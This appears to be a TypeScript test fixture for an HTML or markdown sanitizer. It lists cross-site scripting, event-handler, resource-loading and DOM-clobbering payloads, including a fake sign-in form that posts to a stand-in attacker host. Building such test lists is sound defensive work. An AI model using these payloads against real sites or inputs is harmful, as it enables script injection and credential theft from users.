// Elements and attributes that run, load, embed, submit or rename.
import { attacks, HOST, RUN } from './attack.ts';

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC="${HOST}/x.js"></SCRIPT>`,
  `a <script>${RUN}</script> b`,
  `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<script>${RUN}\n\n# Swallowed?\n`,
  `<iframe src="${HOST}"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="${HOST}/x.swf"><param name="movie" value="${HOST}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="${HOST}/">\n\n[a](b)`,
  `<meta http-equiv="refresh" content="0;url=${HOST}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<link rel="stylesheet" href="${HOST}/x.css">`,
  `<link rel="prefetch" href="${HOST}/x"><link rel="dns-prefetch" href="//attacker.example">`,
  `<form action="${HOST}"><input name="password"><button>Sign in</button></form>`,
  `<form id="f"></form><button form="f" formaction="javascript:${RUN}">x</button>`,
  `<input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}"><option>a</select>`,
  `<textarea autofocus onfocus="${RUN}">\n\n## Swallowed?\n`,
  `<video src="${HOST}/v.mp4" onerror="${RUN}" autoplay><source src="${HOST}/w" onerror="${RUN}"></video>`,
  `<audio src="x" onerror="${RUN}" autoplay>`,
  `<style>@import url(${HOST}/x.css); body{display:none}</style>\n\n## After\n`,
  `Text <style>* { display: none } after it\n\n## Swallowed?\n`,
  `<p style="background:url(${HOST}/x.png);position:fixed;inset:0">cover</p>`,
  `<marquee onstart="${RUN}">m</marquee>`,
  `<dialog open>d</dialog><portal src="${HOST}"></portal>`,
  `<applet code="x"></applet><frameset onload="${RUN}"><frame src="${HOST}"></frameset>`,
  `<html onclick="${RUN}"><head><title>x</title></head><body onload="${RUN}" background="${HOST}/x.png">`,
  `<table background="${HOST}/x.png"><tr><td background="${HOST}/y.png">x</td></tr></table>`,
  `<custom-element onclick="${RUN}" is="x">c</custom-element>`,
  `<slot name="x"></slot><p slot="x" part="y" exportparts="z" popover id="pop">s</p><button popovertarget="pop">b</button>`,
];

const HANDLERS = [
  `<img src=x onerror="${RUN}">`,
  `<img src="x" ONERROR=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src="x\`><script>${RUN}</script>"\`>`,
  `<img src=x:x onerror\n=\n"${RUN}">`,
  `<img srcset="${HOST}/a.png 1x" sizes="1px" alt="a">`,
  `<a href="#" onclick="${RUN}" onmouseover="${RUN}" onfocus="${RUN}" autofocus tabindex="1">x</a>`,
  `<a href="${HOST}" target="_top" download ping="${HOST}/ping" rel="opener">x</a>`,
  `<details open ontoggle="${RUN}"><summary onclick="${RUN}">s</summary>x</details>`,
  `<h2 onclick="${RUN}" style="x" class="aside warn" contenteditable>Heading</h2>`,
  `<div align="center" onmouseover="${RUN}"><p align="center" onclick="${RUN}">x</p></div>`,
  `<kbd accesskey="x" onclick="${RUN}" draggable ondragstart="${RUN}">k</kbd>`,
  `| a <img src=x onerror="${RUN}"> | b |\n| - | - |\n| <script>${RUN}</script> | <a href="javascript:${RUN}">x</a> |\n`,
];

const CLOBBERING = [
  '<a id="root" name="document-data">x</a>\n\n## Root\n\n## Document data\n\n## Main\n',
  '<img name="getElementById" src="x"><form name="body"><input name="parentNode"></form>',
  '## article\n\n## i-copy\n\n## drawer\n\n## section nav\n',
  '## __proto__\n\n## constructor\n\n## hasOwnProperty\n\n[a](#__proto__) [b](#constructor)',
  '## A {#root}\n\n## B {#x onclick=alert(1)} \n\n## C {.new="<script>"}\n',
  '<aside class="aside bad" role="note"><p class="aside-t">webpack says</p></aside>',
  '<svg class="ic"><use href="#i-copy"></use></svg><button class="cbtn">Copy</button>',
];

export const HTML_ATTACKS = [
  ...attacks('element', ELEMENTS),
  ...attacks('handler', HANDLERS),
  ...attacks('clobbering', CLOBBERING),
];
